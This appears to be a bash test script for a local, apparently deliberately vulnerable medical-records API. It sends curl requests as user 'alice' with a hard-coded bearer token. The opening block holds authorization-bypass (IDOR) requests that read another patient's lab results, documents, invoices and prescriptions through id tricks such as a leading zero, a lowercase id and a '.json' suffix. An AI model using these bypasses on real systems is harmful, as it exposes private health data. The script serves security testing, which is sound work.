#!/usr/bin/env bash
# Usage: ./verify.sh [PORT]  - prints status + body prefix of each attack/safe request (attacker = alice)
B="http://127.0.0.1:${1:-5077}/api/v1"
A='Authorization: Bearer mb_live_563b03613e882f84a4174da454eed8d9'
req() { printf '%-4s %-75s ' "$1" "$2"; curl -s -X "$1" -o /tmp/.vb -w '%{http_code} ' "$B$2" -H "$A"; head -c 110 /tmp/.vb | tr '\n' ' '; echo; }
echo "== bugs (alice -> bob) =="
req GET /lab-results/65b2f494790a2d78ca1d3122
req GET /patients/65b2b27a56e9ed92b474ee51/documents/65b2351919d24e400f4fe883
req GET /appointments/01042
req GET /patients/65b22a67fe283b1412c20bbd/appointments
req GET "/invoices?patientId=65b22a67fe283b1412c20bbd"
req GET /invoices/inv-2024-0012
req GET /prescriptions/RX-3H8D1P.json
echo "== direct/checked variants and safe look-alikes =="
req GET /appointments/1042
req GET /invoices/INV-2024-0012
req GET /prescriptions/RX-3H8D1P
req GET /patients/65b22a67fe283b1412c20bbd/documents/65b2351919d24e400f4fe883
req GET /patients/65b22a67fe283b1412c20bbd
req GET /accounts/65b2183c6dd06272ec6da3fa/settings
req GET /doctors/65b2ae01f6e5fa160d514be1
req DELETE /appointments/1042
echo "== own objects still work =="
req GET /lab-results/65b2a58c76a69772d8580d0d
req GET /patients/65b2b27a56e9ed92b474ee51/documents/65b28db36a02f72607a85f5c
req GET /appointments/01041
req GET /invoices/inv-2024-0007
req GET /prescriptions/RX-7K2M9Q.json
req GET /invoices
